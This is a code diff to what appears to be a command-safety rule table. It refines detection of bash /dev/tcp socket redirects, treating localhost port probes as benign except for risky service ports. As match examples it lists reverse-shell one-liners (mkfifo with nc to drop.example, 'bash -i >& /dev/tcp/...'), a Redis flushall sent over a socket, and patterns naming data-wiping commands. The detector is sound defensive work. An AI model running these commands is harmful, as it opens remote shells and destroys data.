@@ -126,6 +126,13 @@ const plainProtocol: Condition = ({ command }) =>
     /(?:^|\n)[ \t]*(?:flush_all|flushall|flushdb|shutdown)\b/i.test(text),
   );
 
+/**
+ * `exec 3<>/dev/tcp/127.0.0.1/5432` asks whether something listens here; databases and engines that obey plain text are
+ * no such question.
+ */
+const OWN_PORT =
+  /^\/dev\/tcp\/(?:localhost|127\.0\.0\.1|::1)\/(?!(?:6379|6380|11211|2375|2376|8500|2181|4444|1337|31337)$)\d+$/;
+
 /** Code that comes from elsewhere, and shells that whoever connects may use. */
 // biome-ignore format: a table; what belongs to a row stands together
 export const RULES = subject("remote-code", [
@@ -144,9 +151,9 @@ export const RULES = subject("remote-code", [
     match: ["mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc drop.example 1 > /tmp/f"] },
   // Bash opens a connection for `/dev/tcp/host/port`.
   { program: "*", when: ({ command }) =>
-      command.redirects.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text))?.target,
+      command.redirects.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text) && (!OWN_PORT.test(target.text) || runsCode(command.program)))?.target,
     rule: "remote-code.socket", reason: "opens a network connection as a file",
-    match: ["exec 5<>/dev/tcp/10.0.0.1/4444"] },
+    match: ["exec 5<>/dev/tcp/10.0.0.1/4444", "echo flushall > /dev/tcp/127.0.0.1/6379", "bash -i >& /dev/tcp/127.0.0.1/9001 0>&1"] },
   { rule: "remote-code.socket", reason: "opens a network connection inside a shell", dry: "", tools: [
     { program: "zmodload", word: /^zsh\/(?:net\/|zftp)/, unless: /^-[a-z]*u/, match: ["zsh -c 'zmodload zsh/net/tcp'"],
       not_match: ["zmodload zsh/datetime", "zmodload -u zsh/net/tcp"] },
